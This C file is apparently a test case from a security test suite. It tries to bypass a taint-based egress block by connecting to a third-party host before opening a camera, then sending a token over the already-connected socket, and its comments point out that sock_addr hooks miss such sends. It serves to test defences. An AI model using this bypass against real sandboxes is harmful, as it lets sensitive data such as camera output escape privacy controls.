/* pre_taint_socket.c - attack: connect to a third party first, open the camera after, then send on the old connection. */
#include "attack.h"

#define ROUTE "pre_taint_socket"

int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	socklen_t len;
	char tok[128];
	size_t n;
	int fd;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[2], &ss, &len);
	n = at_token(tok, sizeof(tok), ROUTE);
	fd = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return at_report_errno(ROUTE, "socket", errno);
	/* Untainted yet: this connect is rightly allowed. */
	if (connect(fd, (struct sockaddr *)&ss, len) < 0) {
		at_result(ROUTE, "error", "connect before the camera: %s", at_errname(errno));
		return 1;
	}
	at_taint(ROUTE, argv[1]);
	/* A connected TCP socket's send carries no address: no sock_addr hook sees it. */
	if (send(fd, tok, n, MSG_NOSIGNAL) != (ssize_t)n)
		return at_report_errno(ROUTE, "send after taint", errno);
	at_result(ROUTE, "through", "send after taint on a socket connected before: %zu bytes", n);
	return 0;
}
